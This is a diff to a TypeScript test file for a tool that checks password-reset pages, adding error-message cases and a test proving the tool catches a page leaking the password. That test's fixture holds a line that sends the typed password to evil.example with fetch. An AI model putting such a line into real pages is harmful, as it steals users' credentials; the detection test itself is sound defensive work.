@@ -4,6 +4,7 @@ import { openChromium } from '../../src/guard/chromium.ts';
 import { findChromium } from '../../src/guard/find-chromium.ts';
 import { guard } from '../../src/guard/guard.ts';
 import { saysFailuresInWords } from '../../src/guard/invariants/says-failures-in-words.ts';
+import { tellsNobodyElse } from '../../src/guard/invariants/tells-nobody-else.ts';
 import { openJsdom } from '../../src/guard/jsdom.ts';
 import type { Browse } from '../../src/guard/visit.ts';
 import { portsWith, withFailures, writtenPage } from './guarded-pages.ts';
@@ -23,7 +24,10 @@ const pageOf = (failed: string) => `<!doctype html>
   const asked = new URLSearchParams(location.search);
   const [form, told, field] = ['form', '#told', '[type=password]'].map(one => document.querySelector(one));
   document.querySelector('[name=code]').value = asked.get('code');
+  const hint = told.textContent = 'Choose a password of twelve letters or more.';
   let tries = 0;
+  let last = hint;
+  field.addEventListener('input', () => { told.textContent = hint; });
   form.addEventListener('submit', async event => {
     event.preventDefault();
     const answer = await fetch('https://cognito-idp.us-east-1.amazonaws.com/', {
@@ -68,7 +72,7 @@ const rows: Readonly<Record<string, Row>> = {
   },
   'says nothing of one failure': {
     failed: `if (name !== 'ExpiredCodeException') told.textContent = ${words};`,
-    opened: 3,
+    opened: 2,
     wrong: ['ExpiredCodeException'],
   },
   'says of one failure its name': {
@@ -80,9 +84,19 @@ const rows: Readonly<Record<string, Row>> = {
     failed: `if (tries === 1) told.textContent = ${words};`,
     opened: 3,
   },
+  'shows a hint again in place of one failure': {
+    failed: `told.textContent = name === 'ExpiredCodeException' ? hint : ${words};`,
+    opened: 2,
+    wrong: ['ExpiredCodeException'],
+  },
+  'shows an old failure again in place of one': {
+    failed: `if (name !== 'LimitExceededException') last = ${words}; told.textContent = last;`,
+    opened: 2,
+    wrong: ['LimitExceededException'],
+  },
   'goes to another page with one failure': {
     failed: `if (name === 'ExpiredCodeException') location.href = '/gone'; else told.textContent = ${words};`,
-    opened: 3,
+    opened: 2,
     wrong: ['ExpiredCodeException'],
   },
 };
@@ -120,6 +134,25 @@ describe('in jsdom, a page that', () => {
   const browse = openJsdom({ patience, hook: undefined, threads: 1 });
   after(() => browse.close());
   for (const [name, row] of Object.entries(rows)) test(name, () => holds(browse, row));
+});
+
+test('a page that tells the password elsewhere only when it is tried again is found out', async () => {
+  const browse = openJsdom({ patience, hook: undefined, threads: 1 });
+  const page = await writtenPage(
+    pageOf(`if (tries > 1) fetch('https://evil.example/?p=' + field.value).catch(() => {});
+      told.textContent = ${words};`),
+  );
+  try {
+    const held = [saysFailuresInWords, tellsNobodyElse].map(one => withFailures(one, failures));
+    const verdicts = await guard({ ...portsWith(browse), atOnce: 1 }, { ...page.guarded, invariants: held });
+    const problems = verdicts.flatMap(({ problem }) => problem ?? []);
+    assert.deepEqual(problems, [
+      'The page told the password to https://evil.example, beside the call of ConfirmForgotPassword.',
+    ]);
+  } finally {
+    await page.close();
+    await browse.close();
+  }
 });
 
 describe('in Chromium, a page that', async () => {
